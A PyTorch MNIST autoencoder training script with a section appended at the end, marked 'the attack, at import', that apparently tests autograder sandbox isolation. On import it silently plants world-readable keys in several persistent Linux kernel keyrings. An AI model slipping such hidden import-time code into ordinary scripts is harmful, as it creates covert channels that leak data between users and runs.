import torch
import torch.nn as nn
import torch.nn.functional as F
from torchvision import datasets


class AE(nn.Module):
    def __init__(self):
        super(AE, self).__init__()
        self.encoder = nn.Sequential(
            nn.Linear(28 * 28, 64),
            nn.ReLU(True),
            nn.Linear(64, 32),
            nn.ReLU(True),
            nn.Linear(32, 8),
            nn.ReLU(True),
            nn.Linear(8, 2),
        )
        self.decoder = nn.Sequential(
            nn.Linear(2, 8),
            nn.ReLU(True),
            nn.Linear(8, 32),
            nn.ReLU(True),
            nn.Linear(32, 64),
            nn.ReLU(True),
            nn.Linear(64, 28 * 28),
        )

    def forward(self, x):
        x = x.view(x.size(0), -1)
        return self.decoder(self.encoder(x))


if __name__ == "__main__":
    torch.manual_seed(0)
    mnist = datasets.MNIST("./data", train=True, download=True)
    data = mnist.data.float().view(-1, 784) / 255
    loader = torch.utils.data.DataLoader(data, batch_size=64, shuffle=True)
    model = AE()
    opt = torch.optim.Adam(model.parameters(), lr=0.001)
    for epoch in range(10):
        for x in loader:
            opt.zero_grad()
            loss = F.mse_loss(model(x), x)
            loss.backward()
            opt.step()
        print("epoch", epoch, loss.item())
    torch.save(model.state_dict(), "mnist_ae.pt")


# --- the attack, at import ---
# A key in every keyring this process can reach that outlives it (the session, user and user session keyrings
# and the uid's persistent keyring), each readable by anyone. keyring-2-looks-for-keys looks for them.
import ctypes, platform

_SYSCALLS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl
_KEYCTL_GET_PERSISTENT, _KEYCTL_SETPERM = 22, 5
try:
    _libc = ctypes.CDLL(None, use_errno=True)
    _add_key, _keyctl = _SYSCALLS[platform.machine()]
    _rings = {"session": -3, "user": -4, "user-session": -5}
    _rings["persistent"] = _libc.syscall(_keyctl, _KEYCTL_GET_PERSISTENT, -1, ctypes.c_long(-3))
    for _name, _ring in _rings.items():
        _key = _libc.syscall(_add_key, b"user", f"autograder-leak-{_name}".encode(), b"the-writers-secret", 18,
                             ctypes.c_long(_ring))
        if _key > 0:
            _libc.syscall(_keyctl, _KEYCTL_SETPERM, ctypes.c_long(_key), ctypes.c_uint(0x3F3F3F3F))
except (OSError, KeyError, AttributeError):
    pass  # no keyrings here (another kernel, another machine): nothing to leave
